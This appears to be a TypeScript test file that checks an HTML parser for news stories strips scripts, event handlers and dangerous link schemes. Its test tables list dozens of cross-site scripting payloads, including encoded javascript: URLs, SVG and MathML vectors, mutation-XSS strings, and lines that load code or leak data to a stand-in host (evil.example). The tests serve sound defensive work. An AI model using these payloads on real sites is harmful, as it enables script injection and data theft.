// @vitest-environment node
import { describe, expect, test } from 'vitest'
import type { Block } from '../../../src/model/body'
import { blocksIn, textIn } from '../../../src/sources/html/html'

const story = 'https://news.example/2026/a-story/'

/** Every address in blocks, whatever holds it. */
function addressesIn(value: unknown): string[] {
  if (Array.isArray(value)) return value.flatMap(addressesIn)
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, held]) =>
    typeof held === 'string'
      ? ['href', 'url', 'player'].includes(key) && held !== ''
        ? [held]
        : []
      : addressesIn(held),
  )
}

function plainWords(blocks: Block[]): string {
  return JSON.stringify(blocks)
}

describe('scripts in a story come to nothing', () => {
  test.each([
    // Elements that run.
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</script>',
    '<scr\0ipt>alert(1)</scr\0ipt>',
    '<script>alert(1)',
    '<script><!--<script></script>alert(1)</script>',
    '<<script>alert(1);//<</script>',
    '<style>@import "javascript:alert(1)";</style>',
    '<style>a[href^="https"]{background:url(https://evil.example/leak)}</style>',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code=x><param name=a value="javascript:alert(1)"></applet>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<form action="javascript:alert(1)"><input type=submit value=x><button formaction="javascript:alert(1)">x</button></form>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<keygen autofocus onfocus=alert(1)>',
    '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'.replace('<img', '<i'),
    '<canvas><script>alert(1)</script></canvas>',
    '<select><script>alert(1)</script><option onclick=alert(1)>x</option></select>',
    '<textarea autofocus onfocus=alert(1)>x</textarea>',
    // Drawings and formulas.
    '<svg onload=alert(1)></svg>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script xlink:href="data:,alert(1)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><set attributeName=href to="javascript:alert(1)"></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    // Media whose address runs.
    '<img src="javascript:alert(1)">',
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="&#14;  javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    '<img src="vbscript:msgbox(1)">',
    '<img src="blob:https://news.example/1">',
    '<img src="file:///c:/a.jpg">',
    '<img src=x:alert(1) onerror=eval(src)>',
    '<audio src="javascript:alert(1)" onerror=alert(1)></audio>',
    '<video src="data:text/html,x" poster="javascript:alert(1)"></video>',
    '<video><source src="javascript:alert(1)" onerror=alert(1)></video>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="JaVaScRiPt:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)"></td></tr></table>',
    // Comments, sections and instructions.
    '<!--<img src="--><!-- x -->',
    '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
    '<![CDATA[<script>alert(1)</script>',
    '<?php echo "<script>alert(1)</script>',
    '<!-- unclosed <script>alert(1)</script>',
  ])('%s', (html) => {
    const blocks = blocksIn(html, story)
    expect(addressesIn(blocks)).toEqual([])
    expect(plainWords(blocks)).not.toMatch(/onerror|onload|srcdoc/)
  })
})

describe('a link that would run a script keeps its words only', () => {
  test.each([
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    '  javascript:alert(1)',
    'java\nscript:alert(1)',
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;&#97;&#118;&#97;script:alert(1)',
    '&#x6A&#x61&#x76&#x61script:alert(1)',
    '&#0000106avascript:alert(1)',
    'javascript:https://news.example/%0aalert(1)',
    '\u0001javascript:alert(1)',
    '\u001bjavascript:alert(1)',
    'jav\0ascript:alert(1)',
    'vbscript:msgbox(1)',
    'livescript:x',
    'mocha:x',
    'data:text/html;base64,PHNjcmlwdD4=',
    'DATA:text/html,x',
    'blob:https://news.example/1',
    'file:///etc/passwd',
    'filesystem:https://news.example/x',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    'jar:https://e.example/x!/y',
    'ms-word:ofe|u|https://e.example/x.doc',
    'intent://x#Intent;end',
    'about:blank',
  ])('%j', (href) => {
    const blocks = blocksIn(`<p><a href="${href}">Read</a> <area href="${href}"></p>`, story)
    expect(blocks).toEqual([{ type: 'paragraph', text: [{ type: 'text', text: 'Read' }] }])
  })
})

describe('HTML that is read one way and shown another', () => {
  test.each([
    ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', ['https://news.example/2026/a-story/1']],
    ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', []],
    ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', []],
    ['<noscript><style></noscript><img src=x onerror=alert(1)>', ['https://news.example/2026/a-story/x']],
    ['<template><style></template><img src=x onerror=alert(1)>', []],
    ['<svg><title><style><img src="</style><img src=x onerror=alert(1)>">', []],
    ['<select><noembed></select><script>alert(1)</script>', []],
    ['<textarea><img title="</textarea><img src=x onerror=alert(1)>">', ['https://news.example/2026/a-story/x']],
    ['<xmp><p title="</xmp><img src=x onerror=alert(1)>">', ['https://news.example/2026/a-story/x']],
    ['<a href="https://e.example/"><table><a href="javascript:alert(1)">x</a></table>', ['https://e.example/']],
    ['<p id="1<style><img/src=x/onerror=alert(1)//</style>">', []],
    ['<img src="https://e.example/a.jpg" alt="x"onerror="alert(1)">', ['https://e.example/a.jpg']],
    [
      '<img src=`https://e.example/a.jpg` onerror=`alert(1)`>',
      ['https://news.example/2026/a-story/%60https://e.example/a.jpg%60'],
    ],
    ['<a/href="https://e.example/"/onmouseover=alert(1)>x</a>', ['https://e.example/']],
    [
      '<a href=https://e.example/ style="position:fixed;inset:0" id=location name=body target=_top ping=//t.example>x</a>',
      ['https://e.example/'],
    ],
  ])('%s gives no more than these addresses: %j', (html, addresses) => {
    const blocks = blocksIn(html, story)
    expect(addressesIn(blocks).filter((address) => !addresses.includes(address))).toEqual([])
    expect(plainWords(blocks)).not.toMatch(/"(?:id|name|class|style|target|ping|on\w+)":/)
  })

  test.each([
    '<b',
    '<',
    '</',
    '<!',
    '<!-',
    '&',
    '&#',
    '&#x',
    '<a href',
    '<a href="',
    "<a href='",
    '<p/',
    ']]>',
    '<svg><',
    '\0',
  ])('cut off after %j is read to its end', (end) => {
    expect(blocksIn(`<p>One.</p>${end}`, story)[0]).toEqual({
      type: 'paragraph',
      text: [{ type: 'text', text: 'One.' }],
    })
  })
})

test('what is written as text stays text', () => {
  const html = '<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;</p>'
  expect(blocksIn(html, story)).toEqual([
    { type: 'paragraph', text: [{ type: 'text', text: '<script>alert(1)</script> &lt;b&gt;' }] },
  ])
  expect(textIn(html)).toBe('<script>alert(1)</script> &lt;b&gt;')
})
